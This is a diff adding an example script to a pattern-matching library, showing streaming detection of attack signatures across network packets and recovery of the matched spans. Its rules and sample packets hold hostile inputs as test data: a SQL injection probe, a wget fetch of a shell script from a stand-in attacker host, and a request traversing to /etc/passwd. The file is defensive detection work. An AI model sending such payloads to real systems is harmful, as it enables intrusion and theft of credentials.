@@ -1,0 +1,82 @@
+"""Alert triage: streaming chunked matching + span recovery.
+
+A security-monitoring flavoured walk through the library's online
+features: network data arrives in packets (chunks), the MFSA matcher
+carries state across them, and when a rule fires, the exact matched span
+is recovered for the analyst — with a literal prefilter shown as the
+low-cost first stage.
+
+Run:  python examples/alert_triage.py
+"""
+
+from repro import (
+    CompileOptions,
+    PrefilterEngine,
+    SpanFinder,
+    StreamingMatcher,
+    compile_ruleset,
+)
+
+RULES = [
+    "union[ ]+select",               # SQLi probe
+    "(wget|curl)[ ]+http://[a-z.]+", # dropper fetch
+    "etc/(passwd|shadow)",           # path traversal target
+    "eval\\(base64_decode",          # obfuscated PHP
+]
+
+#: "Packets": the dropper fetch is split across two chunks on purpose.
+PACKETS = [
+    b"GET /search?q=1 union sel",
+    b"ect password FROM users HTTP/1.1\r\n",
+    b"POST /upload c=wget http",
+    b"://evil.example/x.sh\r\n",
+    b"GET /../../etc/passwd HTTP/1.1\r\n",
+    b"benign traffic benign traffic\r\n",
+]
+
+
+def main() -> None:
+    stream = b"".join(PACKETS)
+
+    # Stage 1 — cheap literal gate: which rules can fire at all?
+    prefilter = PrefilterEngine(RULES)
+    _, stats = prefilter.run(stream)
+    print(f"literal prefilter: {stats.rules_skipped}/{stats.total_rules} rules "
+          f"eliminated without running their automata")
+
+    # Stage 2 — streaming MFSA matching, packet by packet.
+    compiled = compile_ruleset(RULES, CompileOptions(merging_factor=0, emit_anml=False))
+    matcher = StreamingMatcher(compiled.mfsas[0])
+    print("\npacket-by-packet alerts (first completion per rule per packet):")
+    for index, packet in enumerate(PACKETS):
+        fired = matcher.feed(packet)
+        first_per_rule: dict[int, int] = {}
+        for rule_id, end in fired:
+            first_per_rule[rule_id] = min(end, first_per_rule.get(rule_id, end))
+        for rule_id, end in sorted(first_per_rule.items()):
+            print(f"  packet {index}: rule {rule_id} ({RULES[rule_id]!r}) "
+                  f"completed at stream offset {end}")
+
+    # Stage 3 — span recovery for the report.  Unbounded tails (the
+    # [a-z.]+ in rule 1) yield one match per extension; the triage report
+    # keeps the longest span per (rule, start).
+    print("\nmatched spans (longest per rule and start):")
+    finders = {rule_id: SpanFinder(fsa) for rule_id, fsa in enumerate(compiled.fsas)}
+    longest: dict[tuple[int, int], int] = {}
+    for rule_id, end in matcher.matches:
+        for start in finders[rule_id].starts_for_end(stream, end):
+            key = (rule_id, start)
+            longest[key] = max(end, longest.get(key, end))
+    for (rule_id, start), end in sorted(longest.items()):
+        excerpt = stream[start:end].decode("latin-1")
+        print(f"  rule {rule_id}: bytes [{start}:{end}] = {excerpt!r}")
+
+    # Sanity: chunked matching equals a single-shot scan.
+    oneshot = StreamingMatcher(compiled.mfsas[0])
+    oneshot.feed(stream)
+    assert oneshot.matches == matcher.matches
+    print("\n(chunked and single-shot matching agree)")
+
+
+if __name__ == "__main__":
+    main()
